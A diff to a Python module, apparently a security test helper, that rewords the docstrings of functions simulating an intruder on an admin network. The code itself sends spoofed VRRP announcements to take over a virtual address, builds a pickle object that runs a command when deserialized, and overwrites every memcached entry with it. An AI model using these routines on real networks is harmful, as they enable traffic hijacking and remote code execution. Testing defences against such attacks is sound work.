@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""What a stranger on the admin network tries: connect, announce a virtual address, plant a command in a cache."""
+"""Attacks of an intruder on the admin network: connect, announce a virtual address, write a command to a cache."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ VRRP = 112
 
 
 def connects(address: str, port: int, source: str | None = None, timeout: float = 3) -> bool:
-    """Whether somebody answers there who does not hang up at once."""
+    """Whether a TCP connection can be established."""
     try:
         with socket.create_connection((address, port), timeout=timeout, source_address=(source, 0) if source else None):
             return True
@@ -35,7 +35,7 @@ def _checksum(data: bytes) -> int:
 
 
 def advertisement(source: str, destination: str, router_id: int, virtual_address: str) -> bytes:
-    """A VRRP announcement, version 3, of somebody with the highest priority but the owner's."""
+    """Return a VRRP announcement, version 3, with the highest priority below that of the owner."""
     body = struct.pack("!BBBBHH", 0x31, router_id, 254, 1, 100, 0) + socket.inet_aton(virtual_address)
     pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, VRRP, len(body))
     return body[:6] + struct.pack("!H", _checksum(pseudo + body)) + body[8:]
@@ -54,7 +54,7 @@ def announce(source: str, destinations: t.Sequence[str], router_id: int, virtual
 
 
 class Command:
-    """Something that runs a command when it is unpickled."""
+    """An object that runs a command when it is unpickled."""
 
     def __init__(self, command: str) -> None:
         self.command = command
@@ -64,15 +64,15 @@ class Command:
 
 
 def planted(command: str) -> bytes:
-    """What a stranger writes in the place of an entry."""
+    """Return the payload that an intruder writes in place of an entry."""
     return pickle.dumps(Command(command), protocol=0)
 
 
-def converse(address: str, words: bytes, end: bytes) -> bytes:
-    """Say something to a memcached; its answer."""
+def converse(address: str, request: bytes, end: bytes) -> bytes:
+    """Send a request to a memcached; return its answer."""
     answer = b""
     with socket.create_connection((address, 11211), timeout=5) as stream:
-        stream.sendall(words)
+        stream.sendall(request)
         while not answer.endswith((end, b"ERROR\r\n")):
             more = stream.recv(65536)
             if not more:
@@ -82,7 +82,7 @@ def converse(address: str, words: bytes, end: bytes) -> bytes:
 
 
 def plant(addresses: t.Sequence[str], payload: bytes, flags: int = 1) -> int:
-    """Replace every entry of these memcacheds; how many that were."""
+    """Replace every entry of these memcacheds; return the number of entries."""
     count = 0
     for address in addresses:
         with contextlib.suppress(OSError):
